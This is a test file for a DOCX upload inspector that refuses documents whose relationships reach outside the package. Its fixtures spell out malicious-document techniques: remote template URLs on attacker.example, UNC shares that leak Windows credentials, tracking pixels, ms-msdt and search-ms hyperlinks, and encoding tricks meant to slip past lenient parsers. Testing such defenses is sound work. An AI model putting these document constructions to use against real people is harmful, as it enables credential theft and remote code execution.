import { randomBytes } from "node:crypto";
import { describe, expect, it } from "vitest";
import { inspectUpload, type UploadInspection } from "@/lib/uploads/inspect";
import { hyperlink, linkedDocx, paragraph, picture, REL, relsXml, type RelSpec } from "./support/docx-links";

/**
 * Issue 16 item 15: a DOCX whose relationships point outside the package (TargetMode
 * "External") makes Word fetch the target when a teammate opens the file — an attached
 * template, a linked picture, an OLE link, a frame, a subdocument. Such documents are refused
 * as `external_reference`. Plain http(s)/mailto hyperlinks are accepted: Word follows them
 * only when the reader clicks, like a link in any other document (lib/uploads/docx-relationships.ts).
 */

const inspect = async (bytes: Buffer | Promise<Buffer>) => inspectUpload({ filename: "handbook.docx", bytes: await bytes });

function expectExternalReference(result: UploadInspection, detail?: RegExp) {
  expect(result).toMatchObject({ status: "rejected", reason: "external_reference" });
  if (result.status !== "rejected") return;
  expect(result.message).toMatch(/fetch|could not be checked/);
  if (detail) expect(result.detail).toMatch(detail);
}

const template = (target: string, extra: Partial<RelSpec> = {}): RelSpec[] => [{ id: "rId1", type: "attachedTemplate", target, mode: "External", ...extra }];
const linkedImage = (target: string): RelSpec[] => [{ id: "rId5", type: "image", target, mode: "External" }];

describe("DOCX relationships to other servers are refused", () => {
  it("an attached template on a web server (settings.xml.rels) is refused as external_reference", async () => {
    const result = await inspect(linkedDocx({ settingsRels: template("https://attacker.example/template.dotm") }));
    expectExternalReference(result, /settings\.xml\.rels: attachedTemplate → https:\/\/attacker\.example\/template\.dotm/);
  });

  it("an attached template on a network share (UNC and file://) is refused: opening it sends the Windows credentials", async () => {
    for (const target of ["\\\\attacker.example\\share\\t.dotm", "file://attacker.example/share/t.dotm", "file:///\\\\attacker.example\\share\\t.dotm"]) {
      expectExternalReference(await inspect(linkedDocx({ settingsRels: template(target) })), /attachedTemplate/);
    }
  });

  it("a linked (not embedded) picture is refused as external_reference", async () => {
    const result = await inspect(linkedDocx({ body: picture("rId5", "link"), documentRels: linkedImage("http://tracker.example/pixel.png") }));
    expectExternalReference(result, /document\.xml\.rels: image → http:\/\/tracker\.example\/pixel\.png/);
  });

  it("an attached template and a linked picture together are refused", async () => {
    const result = await inspect(
      linkedDocx({ body: picture("rId5"), documentRels: linkedImage("http://tracker.example/p.png"), settingsRels: template("https://attacker.example/t.dotm") }),
    );
    expectExternalReference(result);
  });

  it.each(["oleObject", "frame", "subDocument", "aFChunk", "attachedTemplate", "package", "http://example.com/some/unknown/type"])(
    "an external %s relationship is refused",
    async (type) => {
      expectExternalReference(await inspect(linkedDocx({ documentRels: [{ id: "rId9", type, target: "http://attacker.example/x", mode: "External" }] })));
    },
  );

  it("an external relationship in the package's own _rels/.rels is refused", async () => {
    const extra = [{ name: "_rels/.rels", data: relsXml([{ id: "rId1", type: "officeDocument", target: "word/document.xml" }, { id: "rId2", type: "hyperlink", target: "https://example.com", mode: "External" }]) }];
    // docxParts() already has _rels/.rels; a second copy under the same name is what Word may read.
    expectExternalReference(await inspect(linkedDocx({ extra })));
  });
});

describe("spellings a lenient reader would miss are refused too", () => {
  const attached = (rels: string | Buffer, name = "word/_rels/settings.xml.rels") => inspect(linkedDocx({ extra: [{ name: "word/settings.xml", data: "<w:settings/>" }, { name, data: rels }] }));
  const element = (attributes: string) => `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship ${attributes}/></Relationships>`;
  const T = `Type="${REL}/attachedTemplate"`;

  it.each([
    ["TargetMode in lower case", element(`Id="rId1" ${T} Target="http://a.example/t" TargetMode="external"`), /attachedTemplate → /],
    ["TargetMode padded with spaces", element(`Id="rId1" ${T} Target="http://a.example/t" TargetMode=" External "`), /attachedTemplate → /],
    ["TargetMode as character references", element(`Id="rId1" ${T} Target="http://a.example/t" TargetMode="&#69;xter&#x6E;al"`), /attachedTemplate → /],
    ["single quotes and reordered attributes", element(`TargetMode='External' Target='http://a.example/t' ${T} Id='rId1'`), /attachedTemplate → /],
    ["a namespace prefix on the element", element(`Id="rId1" ${T} Target="http://a.example/t" TargetMode="External"`).replace(/<Relationship /, '<pr:Relationship xmlns:pr="http://schemas.openxmlformats.org/package/2006/relationships" '), /attachedTemplate → /],
    ["a `>` inside an attribute value before TargetMode", element(`Id="rId1" Target="http://a.example/t?a>b" ${T} TargetMode="External"`), /attachedTemplate → /],
    ["an absolute target with no TargetMode", element(`Id="rId1" ${T} Target="http://a.example/t"`), /attachedTemplate → /],
    ["a UNC target with no TargetMode", element(`Id="rId1" ${T} Target="\\\\a.example\\s\\t.dotm"`), /attachedTemplate → /],
    ["an unknown TargetMode", element(`Id="rId1" ${T} Target="t.dotm" TargetMode="Remote"`), /TargetMode "Remote"/],
    ["a DTD declaring an entity", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e "External">]>${element(`Id="rId1" ${T} Target="http://a.example/t" TargetMode="&e;"`)}`, /a DTD/],
    ["duplicate relationship ids", `<Relationships><Relationship Id="rId1" Type="${REL}/styles" Target="styles.xml"/><Relationship Id="rId1" Type="${REL}/styles" Target="styles.xml"/></Relationships>`, /duplicate relationship ids/],
    ["another encoding declared", element(`Id="rId1" ${T} Target="t.dotm"`).replace('encoding="UTF-8"', 'encoding="UTF-7"'), /not UTF-8 or UTF-16/],
  ])("%s", async (_label, rels, detail) => {
    expectExternalReference(await attached(rels), detail);
  });

  it("a relationships part in UTF-16 (with and without a byte-order mark) is read as UTF-16", async () => {
    const rels = relsXml(template("http://a.example/t.dotm")).replace('encoding="UTF-8"', 'encoding="UTF-16"');
    expectExternalReference(await attached(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(rels, "utf16le")])), /attachedTemplate/);
    expectExternalReference(await attached(Buffer.from(rels, "utf16le")), /attachedTemplate/);
    expectExternalReference(await attached(Buffer.from(rels, "utf16le").swap16()), /attachedTemplate/);
  });

  it("part names are matched as Word matches them: any case, percent-encoded", async () => {
    const rels = relsXml(template("http://a.example/t.dotm"));
    expectExternalReference(await attached(rels, "WORD/_RELS/SETTINGS.XML.RELS"), /attachedTemplate/);
    expectExternalReference(await attached(rels, "word/%5Frels/settings.xml.rels"), /attachedTemplate/);
  });

  it("[Content_Types].xml giving the relationships type to a part not named as one is refused", async () => {
    const declare = (declaration: string) => (xml: string) => xml.replace("</Types>", `${declaration}</Types>`);
    const type = "application/vnd.openxmlformats-package.relationships+xml";
    expectExternalReference(await inspect(linkedDocx({ contentTypes: declare(`<Override PartName="/word/links.xml" ContentType="${type}"/>`) })), /word\/links\.xml/);
    expectExternalReference(await inspect(linkedDocx({ contentTypes: declare(`<Default Extension="lnk" ContentType="${type}"/>`) })), /\.lnk/);
  });
});

describe("hyperlinks: accepted when they are plain links, refused when borrowed", () => {
  const link = (target: string, id = "rId7"): RelSpec[] => [{ id, type: "hyperlink", target, mode: "External" }];

  // Decided: accepted. Word opens a hyperlink only when the reader clicks it, as in any PDF
  // or web page, so it fetches nothing on opening; refusing links would refuse most handbooks.
  it("an external http(s) hyperlink used by w:hyperlink is accepted (opened only on a click, fetched on no opening)", async () => {
    const body = `${paragraph("See our prices:")}${hyperlink("rId7", "prices")}${hyperlink("rId8", "mail us")}`;
    const result = await inspect(linkedDocx({ body, documentRels: [...link("https://example.com/prices?a=1&amp;b=2"), ...link("mailto:help@example.com", "rId8")] }));
    expect(result).toMatchObject({ status: "accepted", kind: "docx" });
  });

  it("internal relationships (styles, an embedded picture) are accepted", async () => {
    const documentRels: RelSpec[] = [{ id: "rId1", type: "styles", target: "styles.xml" }, { id: "rId5", type: "image", target: "media/image1.png" }];
    const extra = [{ name: "word/styles.xml", data: "<w:styles/>" }, { name: "word/media/image1.png", data: Buffer.from("89504e470d0a1a0a", "hex") }];
    expect(await inspect(linkedDocx({ body: picture("rId5", "embed"), documentRels, extra }))).toMatchObject({ status: "accepted" });
  });

  it.each(["\\\\attacker.example\\share\\doc.docx", "file://attacker.example/share/x", "http:\\\\attacker.example\\x", "javascript:alert(1)", "ms-msdt:/id PCWDiagnostic", "search-ms:query=x", "https://a.example/a b"])(
    "a hyperlink to %s is refused (a click would reach SMB or another handler)",
    async (target) => {
      expectExternalReference(await inspect(linkedDocx({ body: hyperlink("rId7", "x"), documentRels: link(target) })));
    },
  );

  it("a hyperlink relationship that a picture points at is refused: Word would fetch it as the picture", async () => {
    for (const how of ["link", "embed"] as const) {
      expectExternalReference(await inspect(linkedDocx({ body: `${hyperlink("rId7", "x")}${picture("rId7", how)}`, documentRels: link("https://tracker.example/p.png") })), /blip/);
    }
    // Hidden behind a character reference in the picture's attribute.
    expectExternalReference(await inspect(linkedDocx({ body: picture("&#114;Id7"), documentRels: link("https://tracker.example/p.png") })), /blip/);
  });

  it("a hyperlink of a part that does not exist is refused: no text can hold it, so nothing shows what uses it", async () => {
    const extra = [{ name: "word/_rels/missing.xml.rels", data: relsXml(link("https://example.com")) }];
    expectExternalReference(await inspect(linkedDocx({ extra })), /missing part/);
  });
});

describe("reading relationships costs linear time", () => {
  // Random filler, so the parts do not compress like a zip bomb and reach the relationships check.
  const unclosedQuotes = () => {
    const filler = randomBytes(1_500_000).toString("base64");
    return Array.from({ length: 250_000 }, (_, i) => `<Relationship Id='${filler.slice(i * 8, i * 8 + 8)}`).join("");
  };
  const longName = () => `<Relationship ${randomBytes(1_000_000).toString("hex")}/>`;
  const inRelationships = (junk: string) => linkedDocx({ extra: [{ name: "word/_rels/settings.xml.rels", data: `<Relationships>${junk}</Relationships>` }] });
  const besideHyperlink = (junk: string) =>
    linkedDocx({ body: `${hyperlink("rId7", "x")}${junk}`, documentRels: [{ id: "rId7", type: "hyperlink", target: "https://example.com", mode: "External" }] });

  it.each([
    ["4 MB of unclosed quotes in a relationships part", () => inRelationships(unclosedQuotes())],
    ["4 MB of unclosed quotes in a part that holds hyperlinks", () => besideHyperlink(unclosedQuotes())],
    ["a 2 MB attribute name in a relationships part", () => inRelationships(longName())],
    ["a 2 MB attribute name in a part that holds hyperlinks", () => besideHyperlink(longName())],
  ])("%s is judged in under 3 s", async (_label, build) => {
    const bytes = await build();
    const started = performance.now();
    const result = await inspect(bytes);
    expect(performance.now() - started).toBeLessThan(3000);
    // Judged on its relationships, not stopped earlier by the size or ratio limits.
    expect(result.status === "accepted" || result.reason === "external_reference").toBe(true);
  });
});
